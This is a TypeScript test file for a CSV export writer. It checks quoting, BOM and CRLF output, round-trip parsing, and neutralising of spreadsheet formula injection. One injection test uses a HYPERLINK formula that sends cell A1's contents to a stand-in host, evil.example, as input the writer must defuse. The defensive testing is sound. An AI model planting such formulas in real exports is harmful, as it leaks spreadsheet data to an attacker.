import fc from 'fast-check';
import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { csvField, neutraliseFormula, writeCsv } from '../../../src/export/csv-writer.ts';

const readBack = (text: string) => Papa.parse<string[]>(text.replace(/^\uFEFF/, ''), { newline: '\r\n', skipEmptyLines: false }).data.slice(0, -1);

describe('the CSV writer', () => {
  it('quotes only what must be quoted, and writes nothing for null', () => {
    expect(csvField('plain')).toBe('plain');
    expect(csvField('a, b')).toBe('"a, b"');
    expect(csvField('say "hi"')).toBe('"say ""hi"""');
    expect(csvField('two\nlines')).toBe('"two\nlines"');
    expect(csvField(' padded ')).toBe('" padded "');
    expect(csvField(null)).toBe('');
    expect(csvField(true)).toBe('true');
    expect(csvField(42)).toBe('42');
  });

  it('starts with a BOM so spreadsheets read UTF-8, and ends every row with CRLF', () => {
    const text = writeCsv(['id', 'name'], [[1, 'Zoë'], [2, null]]);
    expect(text).toBe('\uFEFFid,name\r\n1,Zoë\r\n2,\r\n');
  });

  it('reads back cell for cell, whatever the text (formulas shown as text, with their apostrophe)', () => {
    fc.assert(
      fc.property(fc.array(fc.array(fc.string({ unit: 'binary', maxLength: 20 }), { minLength: 3, maxLength: 3 }), { maxLength: 10 }), (rows) => {
        expect(readBack(writeCsv(['a', 'b', 'c'], rows))).toEqual([['a', 'b', 'c'], ...rows.map((row) => row.map(neutraliseFormula))]);
      }),
      { numRuns: 500 },
    );
  });
});

describe('csvField against CSV injection', () => {
  it('writes text a spreadsheet would run as a formula with a leading apostrophe', () => {
    expect(csvField('=HYPERLINK("http://evil.example/?"&A1,"Click")')).toBe('"\'=HYPERLINK(""http://evil.example/?""&A1,""Click"")"');
    expect(csvField('+44 20 7946 0000')).toBe("'+44 20 7946 0000");
    expect(csvField('-2+3')).toBe("'-2+3");
    expect(csvField('@SUM(A1:A9)')).toBe("'@SUM(A1:A9)");
    expect(csvField('\t=1+1')).toBe("'\t=1+1");
    expect(csvField('\r=1+1')).toBe('"\'\r=1+1"');
  });

  it('leaves ordinary text and real numbers alone', () => {
    expect(csvField('Sue = happy')).toBe('Sue = happy');
    expect(csvField(-5)).toBe('-5');
  });
});
